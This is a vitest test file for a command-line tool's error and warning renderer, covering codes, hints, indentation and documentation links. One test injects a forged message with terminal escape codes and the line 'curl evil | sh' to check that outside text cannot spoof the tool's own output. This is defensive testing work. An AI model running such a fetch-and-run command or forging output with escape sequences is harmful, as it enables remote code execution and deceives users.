import { expect, test } from 'vitest';
import { diagnose } from './diagnose.js';
import { renderError, renderForeseenError, renderWarning } from './render.js';

test('an error: code, message, remedy and link', () => {
  expect(renderError(diagnose({ variant: 'PortInUse', port: 8080 }))).toBe(
    'error[E-RUN-010]: network.internal_port 8080 is already in use\n' +
      '  hint: choose another network.internal_port, or leave it out to have the system assign one — see docs/diagnostics.md#e-run-010',
  );
});

test('an error without a remedy has no second line', () => {
  expect(renderError(diagnose({ variant: 'SkillSourceNotFound', path: 'skills/a' }))).toBe(
    "error[E-IO-001]: the skill source 'skills/a' does not exist",
  );
});

test('further lines are indented by two, quoted output by six, and the remedy stays last', () => {
  const text = renderError(
    diagnose({
      variant: null,
      code: 'E-RUN-045',
      members: [
        {
          name: 'lead',
          capsule: 'leader',
          version: '1.0.0',
          reason: 'exited with status 1',
          stderr: ['boom', 'bang'],
        },
      ],
      stopped: [{ name: 'second', pid: 7 }],
    }),
  );
  expect(text).toMatchInlineSnapshot(`
    "error[E-RUN-045]: the formation did not come up
      'lead' (leader@1.0.0): exited with status 1
          boom
          bang
      stopped again: second (pid 7)
      hint: fix 'lead' first; a member can be run alone with --capsule and --capsule-version — see docs/diagnostics.md#e-run-045"
  `);
});

test('text from outside cannot start a line that passes for one of ours', () => {
  const text = renderError(
    diagnose({
      variant: 'HarnessTurnFailed',
      kind: 'other',
      message: 'x\nerror[E-RUN-001]: forged\r\x1b[2K\rhint: curl evil | sh',
      origin: 'harness',
    }),
  );
  expect(text.split('\n').filter((line) => /^\S/.test(line))).toHaveLength(1);
  expect(text).not.toMatch(/[\r\x1b]/);
});

test('a name stays on its line', () => {
  const { message } = diagnose({ variant: 'SkillSourceNotFound', path: 'a\nb\tc' });
  expect(message).toBe("the skill source 'a b c' does not exist");
});

test('warnings: each frame', () => {
  expect(renderWarning({ code: 'W-SEC-901', key: 'spend' })).toBe(
    '[capsule-runtime] warning[W-SEC-901]: spend is declared and not enforced by this build: what it restricts is not restricted (docs/diagnostics.md#w-sec-901)',
  );
  expect(
    renderWarning({
      code: 'W-SEC-019',
      key: 'capabilites',
      block: 'at the top level',
      suggestion: 'capabilities',
      wanted: null,
      served: null,
      unknown: null,
    }),
  ).toBe(
    "[murmur-artifact] warning[W-SEC-019]: unknown key 'capabilites' at the top level: did you mean 'capabilities'? (docs/diagnostics.md#w-sec-019)",
  );
  expect(renderWarning({ code: 'W-RUN-007', formation: 'frm_1' })).toMatch(
    /^warning\[W-RUN-007\]: .* \(docs/,
  );
  expect(renderWarning({ code: 'W-RUN-001', cap: 8192 })).toMatch(
    /^\[capsule-runtime\] warning\[W-RUN-001\]: .*\n {2}docs\/diagnostics\.md#w-run-001$/,
  );
  expect(renderWarning({ code: 'W-BLD-001', entry: 'murmur.yaml' })).toBe(
    "warning[W-BLD-001]: requires_files names 'murmur.yaml', which is packed anyway\n" +
      "  → remove 'murmur.yaml' from requires_files\n" +
      '  → docs/diagnostics.md#w-bld-001',
  );
});

test('a refusal that doctor foresees', () => {
  expect(
    renderForeseenError(
      diagnose({ variant: 'StagedRuntimeRequiresSealed', binaries: ['node'], declared: 'scoped' }),
    ),
  ).toMatch(
    /^\[mur doctor\] warning\[E-CAP-004\]: .*mur run will refuse this capsule\n {2}docs\/diagnostics/,
  );
});
